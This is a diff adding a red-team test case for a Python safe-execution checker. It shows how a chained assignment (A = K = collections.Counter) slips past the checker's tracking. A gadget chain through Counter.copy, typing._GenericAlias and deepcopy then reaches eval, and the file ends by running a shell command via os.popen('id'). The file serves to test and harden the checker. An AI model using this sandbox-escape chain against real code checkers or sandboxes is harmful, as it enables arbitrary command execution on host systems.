@@ -1,0 +1,25 @@
+# expect: reject unbound
+# line: 20
+# verified: reaches its goal under plain python3 (3.11) in a temp dir (eval obtained, id ran)
+# why: thirteenth red team (third round), family B: the inner target of a chained assignment is not followed
+
+# Mechanism: a plain assignment of a library class to a name is an allowed place because the read rule follows the name; but the binding is not recorded for the inner target of a chained assignment A = K = collections.Counter (tree-sitter nests it as assignment(A, assignment(K, value))), so K.copy(P) is unjudged
+# Goal reached: the builtin type by value (Counter.copy(P)), then eval by value (typing._GenericAlias + deepcopy, 11b family A end gadget), called: runs id
+# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD b170093
+# Output seen under python3 (3.11), run in a fresh temp dir:
+#   by value: <class 'type'>
+#   by value: <built-in function eval>
+#   uid=0(root) gid=0(root) groups=0(root)
+import collections
+import copy
+import typing
+
+class P:
+    pass
+
+A = K = collections.Counter                         # chained assignment: the inner target K is never recorded as the class
+T = K.copy(P)                                       # Counter.copy(P) -> P.__class__(P) -> builtin type
+print("by value:", T)
+ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))   # 11b family A end gadget
+print("by value:", ev)
+print(ev("__import__('os').popen('id').read()"), end="")
